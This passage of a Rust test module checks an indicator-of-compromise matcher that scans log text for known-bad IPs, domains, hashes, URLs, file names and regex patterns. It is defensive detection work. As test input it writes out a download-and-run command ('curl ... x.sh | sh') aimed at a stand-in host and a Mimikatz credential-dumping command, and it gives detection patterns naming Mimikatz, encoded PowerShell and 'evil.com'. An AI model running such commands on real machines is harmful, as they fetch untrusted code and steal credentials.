        for _ in 0..3000 {
            let mut text = String::new();
            for _ in 0..1 + next(12) {
                text.push_str(LABELS[next(7) as usize]);
                text.push_str(SEPS[next(12) as usize]);
            }
            if next(2) == 0 {
                text.pop();
            }
            let mut want = Vec::new();
            automaton.scan(text.as_bytes(), &mut want);
            want.sort_unstable();
            want.dedup();
            let mut got = Vec::new();
            tokens.scan(text.as_bytes(), &mut got);
            got.sort_unstable();
            got.dedup();
            total += want.len();
            assert_eq!(got, want, "text {text:?}");
        }
        assert!(total > 500, "only {total} hits: the generator is too weak");
    }

    fn matcher(iocs: &[&str]) -> Matcher {
        Matcher::new(&indicators(iocs)).unwrap()
    }

    fn indicators(iocs: &[&str]) -> Vec<Indicator> {
        iocs.iter()
            .map(|v| {
                crate::ioc::list::parse_text(v)
                    .indicators
                    .pop()
                    .map(|e| e.indicator)
                    .unwrap_or_else(|| detect(v).unwrap())
            })
            .collect()
    }

    fn hits(iocs: &[&str], text: &str) -> Vec<String> {
        let inds = indicators(iocs);
        let m = Matcher::new(&inds).unwrap();
        let mut found = Vec::new();
        m.scan(text.as_bytes(), &mut found);
        found.sort_unstable();
        found.dedup();
        found
            .iter()
            .map(|&i| iocs[i as usize].to_string())
            .collect()
    }

    #[test]
    fn ipv4_respects_boundaries() {
        let ip = ["10.0.0.1"];
        assert_eq!(hits(&ip, "from 10.0.0.1 port 22"), ["10.0.0.1"]);
        assert_eq!(hits(&ip, "SRC=10.0.0.1,"), ["10.0.0.1"]);
        assert_eq!(hits(&ip, "ip 10.0.0.1."), ["10.0.0.1"]);
        assert!(hits(&ip, "from 10.0.0.10 port").is_empty());
        assert!(hits(&ip, "from 110.0.0.1 port").is_empty());
        assert!(hits(&ip, "oid 1.10.0.0.1").is_empty());
        assert!(hits(&ip, "v 10.0.0.1.5").is_empty());
        // In a dotted run with more dots than fit on the stack.
        let long = format!("{}10.0.0.1 x", "a.".repeat(40));
        assert_eq!(hits(&ip, &long), ["10.0.0.1"]);
    }

    #[test]
    fn domains_match_at_label_boundaries() {
        let d = ["evil.com"];
        for yes in [
            "evil.com",
            "GET http://EVIL.com/x",
            "a.b.evil.com:443",
            "mail bob@evil.com.",
            "\"evil.com\"",
        ] {
            assert_eq!(hits(&d, yes), ["evil.com"], "{yes}");
        }
        let long = format!("{}evil.com", "a.".repeat(40));
        assert_eq!(hits(&d, &long), ["evil.com"], "a run of 41 dots");
        assert!(hits(&d, &format!("{long}.au")).is_empty());
        for no in [
            "notevil.com",
            "not-evil.com",
            "evil.com.au",
            "evil.community",
            "evil.co",
        ] {
            assert!(hits(&d, no).is_empty(), "{no}");
        }
    }

    #[test]
    fn hashes_urls_files_and_strings() {
        let md5 = "d41d8cd98f00b204e9800998ecf8427e";
        assert_eq!(hits(&[md5], &format!("MD5={},", md5.to_uppercase())), [md5]);
        assert!(hits(&[md5], &format!("{md5}00")).is_empty());
        let url = ["hxxp://198.51.100[.]7/x.sh"];
        assert_eq!(hits(&url, "curl -fsSL http://198.51.100.7/x.sh | sh"), url);
        assert_eq!(hits(&url, "http://198.51.100.7/x.sh?a=1"), url);
        assert!(hits(&url, "http://198.51.100.7/x.shell").is_empty());
        let f = ["mimikatz.exe"];
        assert_eq!(hits(&f, "C:\\Tools\\Mimikatz.EXE started"), f);
        assert!(hits(&f, "notmimikatz.exe").is_empty());
        assert!(hits(&f, "mimikatz.exe.log").is_empty());
        let p = ["C:\\Users\\alice\\x.json"];
        assert_eq!(
            hits(&p, r#"{"TargetFilename":"C:\\Users\\alice\\x.json"}"#),
            p
        );
        let s = ["string:svc-backup"];
        assert_eq!(hits(&s, "user svc-backup logged"), s);
        assert!(hits(&s, "user svc-backup2 logged").is_empty());
        let ua = ["gobuster/3.6"];
        assert_eq!(hits(&ua, "\"gobuster/3.6\""), ua);
        assert!(hits(&ua, "\"GOBUSTER/3.6\"").is_empty());
    }

    #[test]
    fn cidr_and_ipv6_by_parsed_address() {
        let c = ["192.0.2.0/24", "2001:db8:f860:4801::/64", "2001:db8::1"];
        assert_eq!(hits(&c, "rhost=192.0.2.179 user=x"), ["192.0.2.0/24"]);
        // Ranges wider than the /20 blocks of the pre-filter.
        let wide = ["10.0.0.0/8", "203.0.113.9", "0.0.0.0/0"];
        assert_eq!(hits(&wide, "a 10.255.3.4 b"), ["10.0.0.0/8", "0.0.0.0/0"]);
        assert_eq!(hits(&wide, "a 203.0.113.9 b"), ["203.0.113.9", "0.0.0.0/0"]);
        assert!(hits(&wide[..2], "a 11.0.0.1 b").is_empty());
        assert!(hits(&c, "rhost=192.0.3.1").is_empty());
        assert!(hits(&c, "1.192.0.2.179").is_empty());
        assert_eq!(
            hits(&c, "client 2001:DB8:F860:4801:0:0:0:9a -"),
            ["2001:db8:f860:4801::/64"]
        );
        assert_eq!(hits(&c, "[2001:0db8:0:0:0:0:0:1]:443"), ["2001:db8::1"]);
        assert!(hits(&c, "at 12:34:56 2001:db8::2").is_empty());
    }

    #[test]
    fn regexes_and_overlapping_literals() {
        let r = ["regex:/tmp/\\.[a-z]+\\.sh", "evil.com", "a.evil.com"];
        assert_eq!(hits(&r, "wrote /tmp/.x.sh from a.evil.com"), r);
    }

    #[test]
    fn each_regex_keeps_its_own_flags_and_alternatives() {
        // Flags, anchors and alternations of one pattern do not leak into the next.
        let r = [
            "regex:(?i)mimikatz",
            "regex:^cmd\\.exe$",
            "regex:a|b{3}",
            "regex:Powershell -[eE]nc",
        ];
        assert_eq!(hits(&r, "MIMIKATZ"), [r[0]]);
        assert_eq!(hits(&r, "cmd.exe"), [r[1]]);
        assert!(hits(&r, "run cmd.exe now").is_empty());
        assert_eq!(hits(&r, "bbb"), [r[2]]);
        assert!(hits(&r, "POWERSHELL -enc").is_empty());
        assert_eq!(hits(&r, "Powershell -Enc x a"), [r[2], r[3]]);
        // A verbose-mode comment cannot be put in one alternation: the set alone runs.
        let v = ["regex:(?x) evil \\d+  # a comment", "regex:cmd"];
        assert_eq!(hits(&v, "evil42 and cmd"), v);
        assert!(hits(&v, "evil and shell").is_empty());
    }

    #[test]
    fn required_literals_are_what_every_match_must_contain() {
        let req = |p: &str| {
            required_literals(p).map(|set| {
                set.into_iter()
                    .map(|l| String::from_utf8(l).unwrap())
                    .collect::<Vec<_>>()
            })
        };
        // The longest literal part of a sequence.
        assert_eq!(
            req("evil[0-9a-f]{6}\\.example/wp-(admin|login)"),
            Some(vec![".example/wp-".into()])
        );
        // Every branch of an alternation, or nothing.
        assert_eq!(
            req("(?:mimikatz|sekurlsa)::"),
            Some(vec!["mimikatz".into(), "sekurlsa".into()])
        );
        assert_eq!(req("cmd(\\.exe)?"), Some(vec!["cmd".into()]));
        assert_eq!(req("powershell|\\d+"), None);
        // Case-insensitive letters are classes, not literals; short ones are not worth it.
        assert_eq!(req("(?i)mimikatz"), None);
        assert_eq!(req("a|b{3}"), None);
        assert_eq!(req("(x)*evil"), Some(vec!["evil".into()]));
    }

    #[test]
    fn the_regex_gate_only_skips_fields_no_pattern_can_match() {
        let gated = [
            "regex:evil[0-9a-f]{6}\\.example/wp-(admin|login)",
            "regex:(?:mimikatz|sekurlsa)::\\w+",
        ];
        let m = matcher(&gated);
        assert!(m.regex_gate.is_some());
        assert_eq!(hits(&gated, "GET /evil0a1b2c.example/wp-login"), [gated[0]]);
        assert_eq!(hits(&gated, "run sekurlsa::logonpasswords"), [gated[1]]);
        assert!(hits(&gated, "evil0a1b2c.example/wp-json mimikatz").is_empty());
        // One pattern without a literal of its own: no gate, and every pattern still runs.
        let open = ["regex:(?i)mimikatz", "regex:sekurlsa::\\w+"];
        assert!(matcher(&open).regex_gate.is_none());
        assert_eq!(hits(&open, "MimiKatz sekurlsa::x"), open);
    }
}
